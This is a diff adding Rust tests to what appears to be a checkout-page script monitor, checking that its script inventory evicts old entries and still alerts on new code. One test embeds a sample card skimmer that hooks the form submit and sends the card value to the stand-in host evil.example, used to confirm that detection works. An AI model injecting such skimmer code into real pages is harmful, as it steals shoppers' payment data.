@@ -158,3 +158,64 @@ both_engines!(a_change_always_has_room, MIGRATIONS, async |db| {
     bench.settled(other).await;
     assert_eq!(open(&bench, "script_changed").await.len(), 1);
 });
+
+/// Fills the inventory as a version before did; staff looked at none of it, or approved all.
+async fn filled(bench: &Bench, count: u32, (kind, address): (&'static str, &'static str), is_approved: bool) {
+    let fill = bench.db.write(move |tx| {
+        tx.commit_silent("a test");
+        for number in 0..count {
+            let insert = "INSERT INTO checkout_script (id, version, kind, address, sample, page, source, seen, first_seen, last_seen, is_shared, \
+                          scope, owner, justification, approved_by, approved_at, approved_until) \
+                          VALUES ($1, 1, $2, $3, '', '/checkout', 'page', 2, $4, $4, 0, $5, 'a', 'b', 'c', 0, $6)";
+            let at = storeward_base::Timestamp::from_micros(number.into());
+            let scope = is_approved.then(|| "address".to_owned());
+            let until = is_approved.then(|| tx.now().plus(std::time::Duration::from_secs(86_400)));
+            let address = address.replace("{n}", &number.to_string());
+            tx.execute(insert, storeward_store::params![format!("{number:032x}"), kind, address, at, scope, until])?;
+        }
+        Ok::<_, storeward_store::Error>(())
+    });
+    fill.await.unwrap();
+}
+
+// Ordinary customers, each with code of their session that they look at twice: twenty rows, and what comes then is told.
+both_engines!(code_of_each_session_fills_no_room, MIGRATIONS, async |db| {
+    let bench = Bench::new(db, "").await;
+    for session in 0..60 {
+        for _ in 0..2 {
+            bench.settled(&page(session, "")).await;
+        }
+    }
+    let rows = bench.scripts().await;
+    assert!((20..=30).contains(&rows.len()), "{}", rows.len());
+    close_all(&bench).await;
+    let skimmer =
+        "<script>document.forms[0].onsubmit=e=>{new Image().src=\"//evil.example/?\"+card.value}</script>";
+    bench.settled(&page(1_000, skimmer)).await;
+    assert_eq!(open(&bench, "script_new").await.len(), 1);
+});
+
+// A full room was silent for good: a skimmer had no row and no alert, and the shop's own code could not be approved.
+both_engines!(a_full_room_of_code_makes_room, MIGRATIONS, async |db| {
+    let bench = Bench::new(db, "").await;
+    filled(&bench, 500, ("inline", "code"), false).await;
+    bench.settled("<head><script>document.forms[0].onsubmit = steal</script>").await;
+    let told = open(&bench, "script_new").await;
+    assert_eq!(told.len(), 2, "{told:?}");
+    assert!(told.iter().any(|alert| alert.what.contains("no room for more code")), "{told:?}");
+    let rows: Vec<Script> = bench.checkout.scripts(None, 1_000).await.unwrap();
+    assert!(rows.len() == 500 && rows.iter().all(|row| row.id.as_str() != format!("{:032x}", 0)));
+    // What was seen least recently went; what the shop has can be approved.
+    let own = rows.iter().find(|row| row.hash.is_some()).unwrap();
+    bench.approve(own, Scope::Exact).await;
+});
+
+// Each deploy has twenty files of other names, and all of them were approved.
+both_engines!(approved_files_fill_no_room, MIGRATIONS, async |db| {
+    let bench = Bench::new(db, "").await;
+    filled(&bench, 310, ("script", "https://cdn.example/chunk/{n}.js"), true).await;
+    bench.settled("<head><script src=https://cdn.example/chunk/new.js></script>").await;
+    assert!(addresses_told(&bench).await.contains(&"https://cdn.example/chunk/new.js".to_owned()));
+    let told = open(&bench, "script_new").await;
+    assert!(told.len() == 1 && !told[0].what.contains("no room"), "{told:?}");
+});
